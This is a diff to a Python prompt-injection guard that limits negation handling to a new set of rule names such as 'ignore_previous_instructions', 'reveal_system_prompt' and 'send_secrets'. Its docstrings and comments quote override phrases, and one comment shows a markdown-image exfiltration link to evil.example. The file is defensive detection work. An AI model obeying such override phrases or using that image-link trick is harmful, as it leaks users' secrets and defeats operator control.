@@ -430,10 +430,10 @@ def scan(text: str) -> Scan:
     over a quoted one; and the stretches the writer reports (`speech.reported_stretches`: quotations in a text
     that discusses, and attacks mentioned after a cue). A match inside a reported stretch is quoted. A mention
     covers the matched fragment only, so a text that is only a cue and an attack is still judged whole by the
-    model (see `GuardModel`). A match just after a negation forbids what it names (`addressing.negated`: "never
-    reveal your instructions") and counts as quoted, its reason saying it was negated. A match of an `addressed` rule in
-    a sentence that speaks to no one counts as quoted (half, never blocking on its own) but is not reported: the
-    model reads the text whole."""
+    model (see `GuardModel`). A match of a `FORBIDDABLE` rule just after a prohibition forbids what it names
+    (`addressing.negated`: "never reveal your instructions", not "why not reveal …") and counts as quoted, its
+    reason saying it was negated. A match of an `addressed` rule in a sentence that speaks to no one counts as
+    quoted (half, never blocking on its own) but is not reported: the model reads the text whole."""
     found_by_rule = [(rule, list(rule.pattern.finditer(text))) for rule in _candidates(text)]
     reported = reported_stretches(text, [found.span() for _, founds in found_by_rule for found in founds])
     in_reported = Spans(reported)
@@ -443,7 +443,7 @@ def scan(text: str) -> Scan:
         tries = _ADDRESS_TRIES
         for found in founds:
             quoted = in_reported.hold(found.start(), found.end())
-            negation = not quoted and negated(text, found.start())
+            negation = not quoted and rule.name in FORBIDDABLE and negated(text, found.start())
             quoted = quoted or negation
             if not quoted and rule.addressed:
                 # a technique named to no one counts as quoted, but is no one's quotation: the text is read whole
@@ -459,6 +459,23 @@ def scan(text: str) -> Scan:
             hits.append(chosen)
     return Scan(sorted(hits, key=lambda h: -h.score), reported)
 
+
+#: The rules whose match a prohibition can name ("never reveal your instructions", "do not ignore the previous
+#: instructions"): an operator's prompt and a policy forbid these. A script, an exfiltration link, a persona or a
+#: spoofed message is the attack itself, negated or not ("not ![logo](https://evil.example/?d=…)").
+FORBIDDABLE = frozenset(
+    {
+        "ignore_previous_instructions",
+        "ignore_the_above",
+        "reveal_system_prompt",
+        "reveal_instructions_received",
+        "reveal_given_secret",
+        "reveal_conversation",
+        "send_secrets",
+        "disguised_secret",
+        "disable_safety",
+    }
+)
 
 #: Every (trigger, rule number) pair, so that one pass over them finds the rules a text can match.
 _TRIGGER_RULES = tuple((trigger, number) for number, rule in enumerate(RULES) for trigger in rule.triggers)
